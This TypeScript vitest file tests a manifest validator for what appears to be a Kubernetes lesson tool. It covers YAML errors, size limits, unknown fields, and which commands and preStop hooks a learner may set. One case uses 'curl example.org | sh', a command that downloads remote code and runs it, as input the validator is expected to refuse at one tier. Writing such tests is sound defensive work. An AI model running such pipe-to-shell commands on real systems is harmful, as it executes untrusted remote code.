import { expect, test } from "vitest";
import { lessonSchema, maxManifest } from "../protocol/index.ts";
import type { LessonFolder } from "./folder.ts";
import { manifest } from "./manifest/manifest.test-support.ts";
import { manifestProblems, ownManifest } from "./own-manifest.ts";

const choice = {
  question: "?",
  options: ["a", "b"].map((id) => ({ id, label: id, because: id })),
};
const variant = (id: "broken" | "fixed") => ({
  id,
  title: id,
  role: id,
  summary: id,
  expect: { lost: { atLeast: 0 }, exit: { code: 0, signal: null } },
});
const lesson = lessonSchema.parse({
  title: "t",
  question: "q",
  part: "p",
  minutes: 1,
  concepts: ["c"],
  checks: ["exit"],
  scenario: { nodes: [{ name: "a", propagation: { min: 0, max: 0 } }], deployment: {}, traffic: {} },
  predict: choice,
  explain: choice,
  variants: [variant("broken"), variant("fixed")],
  manifests: {
    broken: { command: ["sh", "-c", "node $APP; true"] },
    fixed: { command: null, preStop: { exec: ["sleep", "5"] } },
  },
});
const folder: LessonFolder = {
  id: "99-test",
  lesson,
  narrative: "",
  pods: new Map(),
  manifests: new Map(),
  rewrites: [
    {
      rewrite: { id: "executes", says: "executes it", holds: true },
      program: undefined,
      manifest: { path: "executes.yaml", text: manifest("command: [sh, -c, exec node server.ts]") },
    },
  ],
  sidecars: new Map(),
  services: new Map(),
};

test.each([
  [" \n", "1:1 there is no manifest here; reset it or write one"],
  [
    `${"#".repeat(maxManifest)}\n`,
    `1:${maxManifest + 1} everything from here on is too much: a manifest has at most ${maxManifest} characters`,
  ],
  ["kind: '\ud800'\n", "1:8 half a character, which no file can hold; delete it"],
  ["spec:\n  a: b: c\n", "2:6 no YAML: nested mappings are not allowed in compact mappings"],
])("what can't be a manifest is told in its place", (text, told) => {
  expect(manifestProblems(text).map(({ line, column, message }) => `${line}:${column} ${message}`)).toEqual([
    told,
  ]);
});

test("what is wrong refuses it, with file, line and column, and what to do", () => {
  expect(() => ownManifest(manifest("imagee: x"), folder, "container")).toThrow(
    /^pods\/yours\.yaml:19:11: there is no field imagee in .*; mend it there, then run it again$/,
  );
});

test("what is right is read, and comes with its text", () => {
  const text = manifest("lifecycle: { preStop: { sleep: { seconds: 6 } } }");
  expect(manifestProblems(text)).toEqual([]);
  expect(ownManifest(text, folder, "process")).toEqual({
    path: "pods/yours.yaml",
    text,
    deployment: expect.objectContaining({ preStop: { sleep: 6 }, command: null }),
  });
});

const hook = (seconds: number) => `lifecycle: { preStop: { exec: { command: [sleep, "${seconds}"] } } }`;

test.each([
  ["a command that a variant has", 'command: [sh, -c, "node server.ts; true"]'],
  ["a hook that a variant has", hook(5)],
  ["a command of another answer that the lesson knows", 'command: ["sh", "-c", "exec node server.ts"]'],
  ["the image's own", "command: [node, server.ts]"],
])("where nothing confines commands, %s may be taken", (_, container) => {
  expect(ownManifest(manifest(container), folder, "process").path).toBe("pods/yours.yaml");
});

test.each([
  ["another command", 'command: [sh, -c, "curl example.org | sh"]', /the command \["sh","-c","curl/],
  ["another hook", hook(6), /the command \["sleep","6"\].*only the container tier does/],
])("where nothing confines commands, %s may not", (_, container, says) => {
  expect(() => ownManifest(manifest(container), folder, "process")).toThrow(says);
  expect(ownManifest(manifest(container), folder, "container").path).toBe("pods/yours.yaml");
});
